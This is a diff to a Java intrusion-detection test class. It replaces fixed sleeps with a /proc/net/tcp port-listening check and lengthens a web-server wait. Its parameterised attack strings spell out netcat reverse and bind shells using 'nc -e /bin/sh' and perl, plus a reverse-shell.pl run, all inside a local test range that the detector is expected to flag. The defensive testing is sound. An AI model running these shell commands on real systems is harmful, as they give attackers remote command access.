@@ -14,12 +14,16 @@ class IntrusionTest {
     private static final String ADDRESS =
             "ip=$(ip -4 -o addr show scope global | sed 's/.*inet \\([0-9.]*\\).*/\\1/')\n";
 
+    /** Goes on when somebody listens at a port, in hexadecimal: state 0A of {@code /proc/net/tcp} (tcp_states.h). */
+    private static final String LISTENING = "listening() { until cat /proc/net/tcp /proc/net/tcp6"
+            + " | grep -q \":$1 [0-9A-F:]* 0A \"; do sleep 0.1; done; }\n";
+
     /** A site with a program in it, and the web server that serves it. */
     private static final String SITE = """
             mkdir -p /www/cgi-bin && echo hello >/www/index.html
             printf '#!/bin/sh\\necho; id\\n' >/www/cgi-bin/run && chmod +x /www/cgi-bin/run
             httpd -p 127.0.0.1:8081 -h /www
-            i=0; until wget -q -O- http://127.0.0.1:8081/index.html; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
+            i=0; until wget -q -O- http://127.0.0.1:8081/index.html; do i=$((i+1)); [ $i -lt 600 ] || exit 1; sleep 0.1; done
             """;
 
     private final AttackRange range;
@@ -63,16 +67,16 @@ class IntrusionTest {
                 "perl /opt/attacks/reverse-shell.pl",
                 "cp /usr/bin/perl /tmp/innocent && /tmp/innocent /opt/attacks/reverse-shell.pl",
                 // The other end is another busybox, which sends one harmless command.
-                "(echo true; sleep 1) | nc -l -p 4445 >/dev/null & sleep 0.3; timeout 5 nc $ip 4445 -e /bin/sh; true",
+                "(echo true; sleep 1) | nc -l -p 4445 >/dev/null & listening 115D; timeout 5 nc $ip 4445 -e /bin/sh; true",
                 // A bind shell: whoever connects, commands.
-                "timeout 5 nc -l -p 4446 -e /bin/sh & sleep 0.3; (echo true; sleep 1) | timeout 5 nc $ip 4446; true",
+                "timeout 60 nc -l -p 4446 -e /bin/sh & listening 115E; (echo true; sleep 1) | timeout 5 nc $ip 4446; true",
                 // An interpreter other than a shell.
-                "(echo '1;'; sleep 1) | nc -l -p 4447 >/dev/null & sleep 0.3; timeout 5 nc $ip 4447 -e /usr/bin/perl; true",
+                "(echo '1;'; sleep 1) | nc -l -p 4447 >/dev/null & listening 115F; timeout 5 nc $ip 4447 -e /usr/bin/perl; true",
             })
     void shellAtAConnectionIsFound(String attack) {
         Workload attacked = range.ordinary();
 
-        attacked.does(ADDRESS + attack).worked();
+        attacked.does(ADDRESS + LISTENING + attack).worked();
 
         attacked.isFound("VDT-3003", Severity.CRITICAL);
     }
